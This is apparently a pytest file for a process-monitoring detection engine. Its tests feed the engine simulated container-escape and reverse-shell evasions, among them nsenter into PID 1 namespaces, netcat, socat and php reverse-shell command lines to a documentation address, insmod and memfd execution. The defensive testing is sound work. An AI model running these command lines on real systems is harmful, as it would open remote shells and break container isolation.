"""More hostile-workspace evasions of Worktrace's rules (issue 15, second review).

Events are built in Tetragon's export shape (see conftest); each test is one attack a workspace
user can mount with their own processes. A test that fails is an attack that breaks Worktrace.
"""

from __future__ import annotations

from typing import Any

import pytest

from stockade.worktrace import AnomalyConfig, Engine, LocalSessions, SessionInfo, load_rules

from .conftest import exec_event, kprobe_event, line, parent_process, process

NODE = "node-1"
PY = "/usr/bin/python3"


@pytest.fixture(scope="module")
def engine_rules() -> Any:
    return load_rules()


def fresh(rules: Any) -> Engine:
    return Engine(rules, anomaly=AnomalyConfig(enabled=False))


def rule_ids(engine: Engine, event: dict[str, Any]) -> set[str]:
    return {a.rule_id for a in engine.feed(line(event)) if a.kind == "rule"}


def fired_over(engine_rules: Any, events: list[dict[str, Any]]) -> list[set[str]]:
    engine = fresh(engine_rules)
    return [rule_ids(engine, event) for event in events]


def _body(event: dict[str, Any]) -> dict[str, Any]:
    body: dict[str, Any] = event[next(k for k in event if k.startswith("process_"))]
    return body


def at(
    event: dict[str, Any],
    pid: int,
    exec_id: str,
    *,
    parent: tuple[int, str, str] | None = None,
) -> dict[str, Any]:
    """``event`` of process ``pid``/``exec_id``; ``parent`` is (pid, exec_id, binary)."""
    body = _body(event)
    body["process"]["pid"] = pid
    body["process"]["exec_id"] = exec_id
    if parent is not None:
        ppid, pexec, pbinary = parent
        body["process"]["parent_exec_id"] = pexec
        body["parent"].update(pid=ppid, exec_id=pexec, binary=pbinary)
    return event


def sock(daddr: str = "203.0.113.9", dport: int = 4444) -> dict[str, Any]:
    return {
        "sock_arg": {
            "family": "AF_INET",
            "type": "SOCK_STREAM",
            "protocol": "IPPROTO_TCP",
            "saddr": "10.8.0.12",
            "daddr": daddr,
            "sport": 50000,
            "dport": dport,
        }
    }


def connect(binary: str = PY) -> dict[str, Any]:
    return kprobe_event("tcp_connect", [sock()], binary=binary)


def dup(oldfd: int, newfd: int, *, binary: str = PY) -> dict[str, Any]:
    return kprobe_event("__x64_sys_dup2", [{"int_arg": oldfd}, {"int_arg": newfd}], binary=binary)


def exit_event(binary: str, pid: int, exec_id: str) -> dict[str, Any]:
    body = {"process": process(binary), "parent": parent_process(), "time": "2026-12-01T10:00:02Z"}
    return at({"process_exit": body, "node_name": NODE}, pid, exec_id)


# --- nsenter: namespace files the rule's globs do not spell ------------------------------


@pytest.mark.parametrize(
    "arguments",
    [
        "--mount=//proc/1/ns/mnt --pid=//proc/1/ns/pid sh",  # a doubled slash
        "--mount=/tmp/h/mnt --pid=/tmp/h/pid sh",  # ln -s /proc/1/ns /tmp/h
        "--mount=./1/ns/mnt sh",  # relative, run from /proc
        "-p/proc/1/ns/pid -U/proc/1/ns/user sh",  # short options with an attached file
        "-C/proc/1/ns/cgroup -i/proc/1/ns/ipc sh",
    ],
)
def test_nsenter_namespace_file_spellings_broke(engine_rules: Any, arguments: str) -> None:
    """BROKE: ``--mount=FILE`` matched only when FILE starts with ``/proc/``, a short option
    with its file attached only when a ``t`` happened to be in it. nsenter does nothing but
    enter the namespaces of a target or a file: any of its options but help/version fires."""
    event = exec_event("/usr/bin/nsenter", arguments)
    assert "nsenter-target" in rule_ids(fresh(engine_rules), event)


@pytest.mark.parametrize("arguments", ["--help", "-h", "-V", "--version"])
def test_nsenter_help_and_version_are_benign(engine_rules: Any, arguments: str) -> None:
    assert not rule_ids(fresh(engine_rules), exec_event("/usr/bin/nsenter", arguments))


def test_busybox_nsenter_namespace_file_broke(engine_rules: Any) -> None:
    event = exec_event("/bin/busybox", "nsenter --net=/tmp/h/net sh")
    assert "nsenter-busybox" in rule_ids(fresh(engine_rules), event)


# --- reverse shell on stdio: the connected process gone before the shell's exec -----------


def test_reverse_shell_parent_exits_before_the_shell_exec_broke(engine_rules: Any) -> None:
    """BROKE: python connects, dup2()s the socket onto its stdin, forks and exits at once;
    the child execs sh. The parent's ``process_exit`` came before the child's exec and took
    the mark with it, so the shell on the socket fired nothing."""
    events = [
        at(connect(), 4500, "cHk="),
        at(dup(3, 0), 4500, "cHk="),
        exit_event(PY, 4500, "cHk="),
        at(exec_event("/bin/sh", "-i"), 4501, "c2g=", parent=(4500, "cHk=", PY)),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_reverse_shell_after_a_double_fork_broke(engine_rules: Any) -> None:
    """BROKE: ``if fork(): exit(); setsid(); if fork(): exit(); execv("/bin/sh")``: the shell's
    parent is a forked copy of python that never exec'd (Tetragon gives it its own exec id
    and pid, and python's binary), whose parent is the connected python."""
    events = [
        at(connect(), 4600, "cHky"),
        at(dup(3, 0), 4600, "cHky"),
        exit_event(PY, 4600, "cHky"),
    ]
    shell = at(exec_event("/bin/sh", "-i"), 4602, "c2gy", parent=(4601, "Zm9yaw==", PY))
    _body(shell)["parent"]["parent_exec_id"] = "cHky"
    events.append(shell)
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_exited_mark_is_not_reused_by_a_new_process_of_the_same_pid(engine_rules: Any) -> None:
    """The mark of an exited process stays with its exec id only: a new process that reuses
    its pid, and that process's children, are not taken for it."""
    events = [
        at(connect(), 4700, "b2xk"),
        at(dup(3, 0), 4700, "b2xk"),
        exit_event(PY, 4700, "b2xk"),
        at(exec_event("/usr/bin/make"), 4700, "bmV3", parent=(1, "aW5pdA==", "/sbin/init")),
        at(exec_event("/bin/sh", "-c cc"), 4701, "c2gz", parent=(4700, "bmV3", "/usr/bin/make")),
    ]
    assert not set().union(*fired_over(engine_rules, events))


def test_forked_child_of_a_benign_parent_of_the_marked_process_is_benign(
    engine_rules: Any,
) -> None:
    """A shell whose parent is a fork of the marked process's *parent* (another binary) is
    not on the marked process's descriptors."""
    events = [
        at(connect(), 4800, "bWFyaw=="),
        at(dup(3, 0), 4800, "bWFyaw=="),
    ]
    shell = at(exec_event("/bin/sh"), 4802, "c2g0", parent=(4801, "c2libA==", "/usr/bin/make"))
    _body(shell)["parent"]["parent_exec_id"] = "bWFyaw=="
    events.append(shell)
    assert not fired_over(engine_rules, events)[-1]


# --- reverse shell on stdio: what the dup2/tcp_connect events cannot see -------------------


@pytest.mark.xfail(
    strict=True,
    reason="dup2(s, 0) comes before connect(s): telling s from a descriptor closed and reused "
    "since (nohup's /dev/null on fd 3, then the program's first socket) needs the closes, "
    "which no hook reports",
)
def test_reverse_shell_dup2_before_connect(engine_rules: Any) -> None:
    """``s = socket(); os.dup2(s.fileno(), 0); s.connect(...); pty.spawn("sh")``."""
    events = [
        at(dup(3, 0), 4900, "YmVm"),
        at(connect(), 4900, "YmVm"),
        at(exec_event("/bin/sh"), 4901, "c2g1", parent=(4900, "YmVm", PY)),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def sys_connect(fd: int, *, binary: str = PY) -> dict[str, Any]:
    """A ``connect`` kprobe as the generated policy asks for it (its socket's descriptor)."""
    return kprobe_event("__x64_sys_connect", [{"int_arg": fd}], binary=binary)


def test_reverse_shell_socket_lands_on_fd_0_broke(engine_rules: Any) -> None:
    """BROKE: ``os.close(0); s = socket(); s.connect(...)``: the socket is fd 0, no dup at all,
    and the shell run on it fired nothing. A connect of fd 0 now marks the process."""
    events = [
        at(sys_connect(0), 5100, "ZmQw"),
        at(connect(), 5100, "ZmQw"),
        at(exec_event("/bin/sh"), 5101, "c2g2", parent=(5100, "ZmQw", PY)),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_connect_of_another_descriptor_marks_nothing(engine_rules: Any) -> None:
    """Every program connects: a connect of fd 3 (its stdin untouched) is not a reverse shell."""
    events = [
        at(sys_connect(3), 5150, "ZmQz"),
        at(connect(), 5150, "ZmQz"),
        at(exec_event("/bin/sh", "-c make"), 5151, "c2g4", parent=(5150, "ZmQz", PY)),
    ]
    assert not set().union(*fired_over(engine_rules, events))


# --- reverse shell on stdio: the dup2 in a child that inherited the socket ----------------

_CHILD_DUP_REASON = (
    "the dup2 onto stdin is in a forked child that connected nothing (subprocess.Popen(stdin=s),"
    " php exec('sh -i <&3')); telling its inherited socket from a pipe needs the connected "
    "descriptors (a sys_connect fd hook) and their closes, which the rules and policy lack"
)


@pytest.mark.xfail(strict=True, reason=_CHILD_DUP_REASON)
def test_reverse_shell_popen_with_the_socket_as_stdin() -> None:
    """``s.connect(...); subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)``."""
    events = [
        at(connect(), 5500, "cG9w"),
        at(dup(3, 0), 5501, "cG9wMg==", parent=(5500, "cG9w", PY)),
        at(exec_event("/bin/sh", "-i"), 5501, "c2g3", parent=(5500, "cG9w", PY)),
    ]
    assert "reverse-shell-stdio" in fired_over(load_rules(), events)[-1]


@pytest.mark.xfail(strict=True, reason=_CHILD_DUP_REASON)
def test_reverse_shell_php_exec_redirects_fd_3() -> None:
    """``php -r '$s=fsockopen("h",4444);exec("/bin/sh -i <&3 >&3 2>&3");'``: php connects,
    its ``sh -c`` child does the dup2(3, 0) and execs the interactive shell."""
    php = "/usr/bin/php"
    sh_c = "-c /bin/sh -i <&3 >&3 2>&3"
    events = [
        at(connect(php), 5600, "cGhw"),
        at(exec_event("/bin/sh", sh_c), 5601, "c2hj", parent=(5600, "cGhw", php)),
        at(dup(3, 0, binary="/bin/sh"), 5601, "c2hj", parent=(5600, "cGhw", php)),
        at(exec_event("/bin/sh", "-i"), 5602, "c2hp", parent=(5601, "c2hj", "/bin/sh")),
    ]
    assert "reverse-shell-stdio" in fired_over(load_rules(), events)[-1]


# --- local sessions: pushing the session's processes out of the process table -------------


def _local_exec(binary: str, arguments: str, pid: int, exec_id: str, parent: tuple[int, str]):  # type: ignore[no-untyped-def]
    event = exec_event(binary, arguments, pod=False)
    return at(event, pid, exec_id, parent=(parent[0], parent[1], "/bin/bash"))


def test_exec_flood_does_not_detach_a_local_session_broke() -> None:
    """BROKE: the process table dropped its oldest entries once full, live or not. In a local
    session (no Pod: the session is its shell's pid and every descendant), a user forks a flood
    of short-lived processes from one subshell while another waits; the waiting subshell's
    entry goes, and its nsenter, tied to no session, matched no rule (they need a session)."""
    sessions = LocalSessions()
    engine = Engine(
        load_rules(), sessions=sessions, anomaly=AnomalyConfig(enabled=False), max_processes=64
    )
    sessions.register(100, SessionInfo("ws-alice", "alice", "s-local"))
    shell = ("c2hlbGw=", 100)
    engine.feed(line(_local_exec("/bin/bash", "-l", 100, shell[0], (99, "c3NoZA=="))))
    engine.feed(line(_local_exec("/bin/bash", "", 101, "d2FpdA==", (100, shell[0]))))
    engine.feed(line(_local_exec("/bin/bash", "", 102, "Zmxvb2Q=", (100, shell[0]))))
    for n in range(1000):  # each exits at once: never more than a few alive
        pid, exec_id = 1000 + n, f"dHJ1ZQ{n}"
        engine.feed(line(_local_exec("/bin/true", "", pid, exec_id, (102, "Zmxvb2Q="))))
        engine.feed(line(exit_event("/bin/true", pid, exec_id) | {}))
    alerts = engine.feed(
        line(_local_exec("/usr/bin/nsenter", "-t 1 -a sh", 3000, "bnNl", (101, "d2FpdA==")))
    )
    assert [(a.rule_id, a.session.session_id) for a in alerts] == [("nsenter-target", "s-local")]


# --- running a tool through the dynamic loader or a busybox applet -----------------------


@pytest.mark.parametrize(
    ("binary", "arguments", "rule"),
    [
        ("/lib64/ld-linux-x86-64.so.2", "/usr/bin/nsenter -t 1 -a sh", "nsenter-target"),
        (
            "/lib/ld-musl-x86_64.so.1",
            "--preload /x.so /usr/bin/nsenter -t1 -a sh",
            "nsenter-target",
        ),
        ("/lib64/ld-linux-x86-64.so.2", "--argv0 ls /sbin/insmod /tmp/r.ko", "kernel-module-tool"),
        ("/lib64/ld-linux-x86-64.so.2", "--inhibit-cache /usr/bin/unshare -r", "unshare-tool"),
        ("/bin/busybox", "unshare -r sh", "unshare-tool"),
        ("/bin/busybox", "nc 203.0.113.9 4444 -e /bin/sh", "reverse-shell-netcat"),
        ("/bin/busybox", "insmod /tmp/r.ko", "kernel-module-tool"),
    ],
)
def test_tool_run_through_the_loader_or_busybox_broke(
    engine_rules: Any, binary: str, arguments: str, rule: str
) -> None:
    """BROKE: rules key on the exec'd binary; ``ld.so /usr/bin/nsenter -t 1`` is an exec of
    the loader (only payloads in writable places were looked at) and ``busybox nc -e`` an
    exec of busybox (only its nsenter applet had a rule). The tool the loader or busybox
    runs is matched as if it had been exec'd."""
    assert rule in rule_ids(fresh(engine_rules), exec_event(binary, arguments))


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/lib64/ld-linux-x86-64.so.2", "--list /usr/bin/nsenter"),
        ("/lib64/ld-linux-x86-64.so.2", "/usr/bin/ls -t /tmp"),
        ("/bin/busybox", "ls -t /tmp"),
        ("/bin/busybox", "nc -l -p 8080"),
        ("/bin/busybox", "--help"),
    ],
)
def test_benign_loader_and_busybox_runs_stay_silent(
    engine_rules: Any, binary: str, arguments: str
) -> None:
    assert not rule_ids(fresh(engine_rules), exec_event(binary, arguments))


# --- argv games: Tetragon quotes an argument that holds a space ---------------------------


@pytest.mark.parametrize(
    ("binary", "arguments", "rule"),
    [
        # nsenter "-at 1" sh: getopt reads -a, then -t with " 1"; Tetragon writes "-at 1"
        ("/usr/bin/nsenter", '"-at 1" sh', "nsenter-target"),
        ("/usr/bin/nc", '"-e /bin/sh" 203.0.113.9 4444', "reverse-shell-netcat"),
        ("/usr/bin/socat", '"EXEC:/bin/sh -i" TCP:203.0.113.9:4444', "reverse-shell-netcat"),
        # a lone quote in one argument must not hide the next ones: nsenter '"x' -at1 '"y' sh
        ("/usr/bin/nsenter", '"x -at1 "y sh', "nsenter-target"),
    ],
)
def test_quoted_arguments_broke(engine_rules: Any, binary: str, arguments: str, rule: str) -> None:
    """BROKE: the arguments were split on spaces, so a quoted argument came apart (``"-at``,
    ``1"``) and matched no glob."""
    assert rule in rule_ids(fresh(engine_rules), exec_event(binary, arguments))


def test_quoted_argument_of_a_benign_command_stays_silent(engine_rules: Any) -> None:
    event = exec_event("/usr/bin/nc", '-z "example.org" 443')
    assert not rule_ids(fresh(engine_rules), event)


# --- fileless execution: what the kernel names an execveat(fd, "", AT_EMPTY_PATH) ---------


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/dev/fd/3", ""),  # glibc fexecve(memfd): execveat(AT_EMPTY_PATH) -> "/dev/fd/3"
        ("/dev/fd/4", "-c id"),
        ("/lib64/ld-linux-x86-64.so.2", "/dev/fd/3"),
    ],
)
def test_fexecve_of_a_memfd_broke(engine_rules: Any, binary: str, arguments: str) -> None:
    """BROKE: the kernel names the exec of ``execveat(fd, "", AT_EMPTY_PATH)`` (what glibc's
    ``fexecve`` and Python's ``os.execve(fd, ...)`` do) ``/dev/fd/N``, and Tetragon reports
    the name the kernel gives; the rule knew ``/memfd:*`` and ``/proc/*/fd/*`` only."""
    assert "memfd-exec" in rule_ids(fresh(engine_rules), exec_event(binary, arguments))
